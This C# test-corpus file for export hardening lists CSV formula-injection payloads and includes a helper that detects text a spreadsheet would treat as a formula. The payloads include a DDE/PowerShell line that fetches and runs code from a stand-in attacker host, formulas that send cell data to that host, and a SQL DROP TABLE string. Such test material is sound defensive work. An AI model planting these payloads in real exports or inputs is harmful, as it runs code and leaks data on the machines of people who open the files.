namespace Stats.Hardening.Tests.Corpus;

/// <summary>
/// CSV injection (formula injection) payloads: text that a spreadsheet opening an export would run, starting with
/// =, +, -, @, a tab or a carriage return (OWASP, "CSV Injection").
/// </summary>
internal static class InjectionPayloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker.invalid/shell)'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Details\")",
        "=IMPORTXML(CONCAT(\"http://attacker.invalid/?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"http://attacker.invalid/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"A0\")",
        "=1+1",
        "+43 660 1234567",
        "-1+1",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=",
        "=\"\"\"; DROP TABLE stg_intake__victim_registration; --",
    ];

    public static string Pick(Random random) => All[random.Next(All.Count)];

    /// <summary>
    /// Whether a text would start a formula in a spreadsheet: a control character first, or after white space =, + or @,
    /// or - not followed by a digit (a negative number is no formula).
    /// </summary>
    public static bool LooksLikeFormula(string text)
    {
        if (text.Length > 0 && char.IsControl(text[0]))
        {
            return true;
        }

        var t = text.TrimStart();
        return t.Length > 0 && (t[0] is '=' or '+' or '@' || (t[0] == '-' && (t.Length == 1 || !char.IsAsciiDigit(t[1]))));
    }
}
